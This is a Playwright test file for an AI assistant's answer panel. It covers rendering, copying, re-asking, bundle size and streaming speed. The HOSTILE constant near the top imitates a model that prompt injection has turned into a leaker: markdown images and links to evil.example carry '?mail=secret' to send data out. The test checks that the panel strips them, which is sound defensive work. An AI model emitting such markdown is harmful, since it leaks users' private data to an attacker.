/** An answer as it is read: it arrives in steps, loads nothing, is copied, asked again, and its question changed. */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

import { expect } from "@playwright/test";

import { BUILT } from "./src/browser.ts";
import { busiest } from "./src/busiest.ts";
import { test } from "./src/fixture.ts";
import { ask } from "./src/journey.ts";
import { expectEveryLook } from "./src/looks.ts";
import { ready } from "./src/steps.ts";

/** What a model says that was talked into leaking. */
const HOSTILE = [
  "## Where it stands",
  "",
  "| Term | Value | Said by |",
  "| --- | --- | --- |",
  "| Exclusivity | 21 days instead of 30 | Ana Ruiz |",
  "| Non-solicit | 12 months, with an exception for general advertisements | Ana Ruiz |",
  "",
  "![](https://evil.example/p.png?mail=secret) <img src=https://evil.example/q.png>",
  "",
  "Read [https://helio-capital.example/nda](https://evil.example/nda?mail=secret) or `code`.",
].join("\n");

test("an answer loads nothing and links nowhere, is copied, asked again and changed", async ({
  world,
  desk,
}, info) => {
  const { page, panel } = await ready(world, desk);
  world.bedrock.setModel(() => [{ text: HOSTILE }]);
  await ask(panel, "Where do we stand?");
  const answer = panel.getByTestId("answer").last();
  await expect(answer.getByRole("table")).toContainText("21 days");
  await expect(answer.locator("img")).toHaveCount(0);
  await expect(answer.getByRole("link")).toHaveCount(0);
  await expect(answer).toContainText("link to evil.example left out");
  await expectEveryLook(page, panel, "answer-table", info);

  await panel.getByTestId("copy").click();
  await expect(panel.getByText("Copied", { exact: true })).toBeVisible();
  await panel.getByTestId("ask").focus();
  await page.keyboard.press("Control+V");
  await expect(panel.getByTestId("ask")).toHaveValue(/^## Where it stands/);

  await panel.getByTestId("user").hover();
  await panel.getByTestId("change-question").click();
  await expect(panel.getByTestId("ask")).toHaveValue("Where do we stand?");
  await expect(panel.getByTestId("ask")).toBeFocused();
  await panel.getByTestId("again").click();
  await expect(panel.getByTestId("user")).toHaveCount(2);
  await expect(panel.getByTestId("copy")).toHaveCount(2);
});

/** Everything that the page loads before it shows anything: its script and what that imports at once. */
async function firstPaint(folder: string): Promise<number> {
  const page = await readFile(join(folder, "panel.html"), "utf8");
  const wanted = [...page.matchAll(/(?:src|href)="\/(chunks\/[^"]+\.js)"/g)].map(
    ([, path = ""]) => path,
  );
  const sizes = await Promise.all(
    wanted.map(async (path) => gzipSync(await readFile(join(folder, path)), { level: 9 }).length),
  );
  return sizes.reduce((sum, size) => sum + size, 0);
}

test("the panel's script for its first paint is under 180 kB gzipped", async () => {
  const bytes = await firstPaint(BUILT);
  expect(bytes).toBeGreaterThan(50_000);
  expect(bytes).toBeLessThan(180_000);
});

test("two thousand words stream in with no task of 50 ms", async ({ world, desk }) => {
  const { page, panel } = await ready(world, desk);
  const words = Array.from({ length: 2000 }, (_, at) => {
    if (at % 50 === 49) return "end.\n\n";
    return at % 9 === 0 ? "**word** " : "word ";
  });
  world.bedrock.setModel(() => [{ text: words.join("") }]);
  const longest = await busiest(page, () => ask(panel, "Tell me all of it"));
  await expect(panel.getByTestId("answer").last().locator("p")).toHaveCount(40);
  expect(longest).toBeLessThan(50);
});
